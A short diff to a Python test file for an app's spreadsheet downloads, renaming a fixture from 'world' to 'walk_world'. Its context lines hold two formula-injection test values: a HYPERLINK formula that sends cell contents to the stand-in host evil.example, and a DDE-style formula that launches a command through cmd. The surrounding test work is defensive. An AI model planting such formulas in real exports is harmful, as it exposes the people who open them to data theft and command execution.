@@ -40,7 +40,7 @@ from kpi.models import Indicator, ReportingPeriod
 from plans.models import PublishedYear
 from tests.downloads import city_download
 from tests.factories import kpi_by_code
-from tests.test_permissions import ACTIONS, ACTORS, EXPECTED, world  # noqa: F401 (world is a fixture)
+from tests.test_permissions import ACTIONS, ACTORS, EXPECTED, walk_world  # noqa: F401 (a fixture)
 
 NAME = '=HYPERLINK("https://evil.example/?x="&A1,"x")'
 NARRATIVE = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -273,11 +273,11 @@ def _first_allowed(action: str) -> str | None:
     return next((actor for actor, expected in zip(ACTORS, row, strict=True) if expected == 200), None)
 
 
-def test_every_spreadsheet_download_is_checked_here(client, cast, world):  # noqa: F811 (the fixture)
+def test_every_spreadsheet_download_is_checked_here(client, cast, walk_world):  # noqa: F811 (the fixture)
     """Every route of the walk, fetched by someone allowed: a spreadsheet answer must be in DOWNLOADS."""
     found = set()
     for action, build in ACTIONS.items():
-        method, url, _data = build(world)
+        method, url, _data = build(walk_world)
         actor = _first_allowed(action)
         if method != "get" or actor is None:
             continue
